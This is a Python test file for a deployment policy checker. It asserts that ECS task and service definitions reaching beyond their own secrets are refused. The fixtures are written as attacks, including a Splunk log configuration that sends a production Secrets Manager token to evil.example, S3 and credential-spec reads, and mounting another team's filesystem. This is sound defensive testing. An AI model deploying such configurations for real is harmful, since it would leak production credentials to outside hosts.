"""What a pull request could reach beside its containers' own secrets; each was an attack."""

from typing import Any

import pytest

from deployments.definitions.problems import Problem

from .rule_samples import PLAIN, on_ec2, only, service_on_ec2
from .samples import container, problems_of_team

SECRET = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbCdEf"
CONNECTED = {
    "enabled": True,
    "logConfiguration": {
        "logDriver": "splunk",
        "options": {"splunk-url": "https://evil.example"},
        "secretOptions": [{"name": "splunk-token", "valueFrom": SECRET}],
    },
}


def about(entry: str, problems: list[Problem]) -> list[Problem]:
    return [problem for problem in problems if f"{entry}, which this" in problem.message]


def with_volume(**volume: Any) -> dict[str, Any]:
    return container() | {"volumes": [{"name": "v", **volume}]}


#: A task definition, and the entry of `allowed` without which it is refused.
ATTACKS: list[tuple[dict[str, Any], str]] = [
    (
        container(
            firelensConfiguration={
                "type": "fluentbit",
                "options": {
                    "config-file-type": "s3",
                    "config-file-value": "arn:aws:s3:::prod/secret.conf",
                },
            }
        ),
        "s3:prod/secret.conf",
    ),
    (
        container(credentialSpecs=["credentialspecdomainless:arn:aws:s3:::prod/spec.json"]),
        "s3:prod/spec.json",
    ),
    (
        with_volume(
            fsxWindowsFileServerVolumeConfiguration={
                "fileSystemId": "fs-own",
                "rootDirectory": "share",
                "authorizationConfig": {"credentialsParameter": SECRET, "domain": "corp"},
            }
        ),
        "secretsmanager:prod/db-AbCdEf",
    ),
    (
        with_volume(efsVolumeConfiguration={"fileSystemId": "fs-prod", "rootDirectory": "/"}),
        "file-system:fs-prod",
    ),
]


@pytest.mark.parametrize(("task", "entry"), ATTACKS, ids=[entry for _, entry in ATTACKS])
def test_it_is_refused_and_may_be_allowed(task: dict[str, Any], entry: str) -> None:
    own = ("file-system:fs-own",)
    (problem,) = about(entry, problems_of_team(task, PLAIN, allowed=own))
    assert f"--allow '{entry}'" in problem.hint
    assert about(entry, problems_of_team(task, PLAIN, allowed=(*own, entry))) == []


def test_service_connects_log_driver_reads_no_secret() -> None:
    service = PLAIN | {"serviceConnectConfiguration": CONNECTED}
    (problem,) = about("prod/db-AbCdEf", problems_of_team(container(), service))
    assert problem.file == "ecs-service-def.json"


def test_no_log_goes_to_another_repositorys_group() -> None:
    options = {"awslogs-group": "/edaha/other/repo", "awslogs-region": "eu-west-1"}
    written = container(logConfiguration={"logDriver": "awslogs", "options": options})
    only(problems_of_team(written, PLAIN), "which is another repository's")


def test_a_volume_drivers_name_alone_is_a_host_volume() -> None:
    volume = {"name": "v", "dockerVolumeConfiguration": {"driver": "rexray/ebs", "scope": "task"}}
    written = on_ec2() | {"volumes": [volume]}
    only(problems_of_team(written, service_on_ec2()), "kept on its host")
